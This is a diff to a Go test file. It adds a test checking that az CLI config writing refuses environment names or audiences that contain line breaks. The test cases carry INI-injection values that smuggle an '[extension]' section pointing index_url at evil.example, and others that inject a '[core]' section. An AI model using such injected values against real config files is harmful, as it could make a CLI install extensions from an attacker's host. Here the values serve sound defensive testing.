@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -71,6 +72,37 @@ func TestWriteAzConfig(t *testing.T) {
 			t.Errorf("clouds.config written for a built-in cloud: %v", err)
 		}
 	})
+}
+
+// TestWriteAzConfigRefusesALineBreak: an environment whose name or ARM
+// audience holds a line break (from `environment add`, an import file or
+// a hand edit) is refused, naming the environment: written into az's INI
+// files, "emu\n[extension]\nindex_url = http://evil.example/" became a
+// setting of the child's az CLI (where it installs extensions from).
+func TestWriteAzConfigRefusesALineBreak(t *testing.T) {
+	t.Parallel()
+	ok := profile.Environment{Name: "emulator", AuthorityHost: "https://127.0.0.1:8443/", ARMEndpoint: "https://127.0.0.1:8443/", ARMAudience: "https://management.core.windows.net/"}
+	for _, tc := range []struct {
+		name string
+		edit func(e *profile.Environment)
+	}{
+		{"a name", func(e *profile.Environment) { e.Name = "emu\n[extension]\nindex_url = http://evil.example/" }},
+		{"a name with a carriage return", func(e *profile.Environment) { e.Name = "emu\r[core]" }},
+		{"an audience", func(e *profile.Environment) { e.ARMAudience = "https://x/\n[core]\ncollect_telemetry = no" }},
+	} {
+		env := ok
+		tc.edit(&env)
+		dir := t.TempDir()
+		err := writeAzConfig(dir, &profile.Context{Tenant: profile.Tenant{ID: "t"}}, env, "")
+		if err == nil || !strings.Contains(err.Error(), "line break") || !strings.Contains(err.Error(), strconv.Quote(env.Name)) {
+			t.Errorf("%s: writeAzConfig = %v, want an error naming environment %q and the line break", tc.name, err, env.Name)
+		}
+		for _, f := range []string{"config", "clouds.config"} {
+			if data, err := os.ReadFile(filepath.Join(dir, f)); err == nil && (strings.Contains(string(data), "[core]") || strings.Contains(string(data), "[extension]")) {
+				t.Errorf("%s: %s holds %q", tc.name, f, data)
+			}
+		}
+	}
 }
 
 // TestCABundle: the bundle is the parent's roots, then the CA; the next
